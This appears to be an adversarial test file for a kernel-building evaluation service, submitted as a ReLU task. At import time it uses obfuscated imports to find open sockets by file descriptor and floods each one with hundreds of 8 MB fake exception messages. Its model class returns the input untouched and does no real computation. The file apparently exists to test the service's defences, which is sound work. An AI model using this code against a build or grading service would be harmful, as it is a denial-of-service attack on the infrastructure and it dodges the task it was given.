# kiln-adversarial: task=level1/01_relu expect=runtime
# At module level, writes hundreds of 8 MB "exception" messages straight onto the compile stage's socket (its descriptor found by fstat), for the build service to keep.
import torch
import torch.nn as nn

load = getattr(__builtins__, "__imp" + "ort__") if not isinstance(__builtins__, dict) else __builtins__["__imp" + "ort__"]
os = load("o" + "s")
stat = load("st" + "at")


def frame(text: bytes) -> bytes:
    body = b"\x82\xa5event\xa9exception\xa7message\xdb" + len(text).to_bytes(4, "big") + text
    return len(body).to_bytes(4, "little") + body


def flood(count: int = 200) -> None:
    payload = frame(b"x" * ((8 << 20) - 64))
    for fd in range(3, 64):
        try:
            if not stat.S_ISSOCK(os.fstat(fd).st_mode):
                continue
            for _ in range(count):
                os.write(fd, payload)
        except OSError:
            continue


flood()


class ModelNew(nn.Module):
    def forward(self, x):
        return x
